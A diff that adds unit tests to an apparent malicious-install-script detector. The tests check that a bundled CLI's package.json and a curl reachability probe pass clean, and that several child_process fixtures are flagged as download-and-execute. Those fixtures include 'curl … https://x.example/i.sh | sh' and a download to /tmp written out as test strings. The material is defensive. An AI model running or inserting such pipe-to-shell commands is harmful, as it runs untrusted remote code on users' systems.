@@ -54,6 +54,22 @@ describe("popular packages' real install scripts read clean", () => {
   });
 });
 
+describe("a bundled CLI's inlined package.json and a container's reachability probe read clean", () => {
+  // gitlab-ci-local 4.75.1's dist/index.js (fixtures/PROVENANCE.md): its package.json's `fetch-schema`
+  // script, and `curl -s -o /dev/null -w "%{http_code}"` waiting for a registry in a container.
+  test('gitlab-ci-local 4.75.1: neither is a download run', () => {
+    expect(flags(read('excerpts/gitlab-ci-local@4.75.1/index.js'))).toEqual([]);
+  });
+  test.each([
+    ['a probe whose line then pipes a download into a shell', "const cp = require('child_process');\ncp.execSync('curl -s -o /dev/null https://x.example && curl -s https://x.example/i.sh | sh')", ['download-exec']],
+    ['a download kept, not thrown away', "const cp = require('child_process');\ncp.execSync('curl -s -o /tmp/x.sh https://x.example/i.sh')", ['download-exec']],
+    ['a scripts object that is no package.json', "const cp = require('child_process');\nconst cfg = {version:\"1.0.0\",scripts:{go:\"curl -s https://x.example/i.sh | sh\"}};\ncp.execSync(cfg.scripts.go)", ['download-exec']],
+    ['an inlined package.json with a download script', "const cp = require('child_process');\nvar pkg={name:\"x\",version:\"1.0.0\",scripts:{schema:\"curl https://x.example/s.json -sf > s.json\"},devDependencies:{a:\"1.x\"}};\ncp.spawnSync(exe, ['--version']);", []],
+  ])('%s', (_name, code, expected) => {
+    expect(flags(code)).toEqual(expected);
+  });
+});
+
 describe("a bundled CLI's shell completion script held as text reads clean", () => {
   // yargs' completion templates, as create-qwik 1.20.1 bundles them beside child_process (fixtures/PROVENANCE.md).
   test('create-qwik 1.20.1: "# Installation: … >> ~/.bashrc" on comment lines is no write', () => {
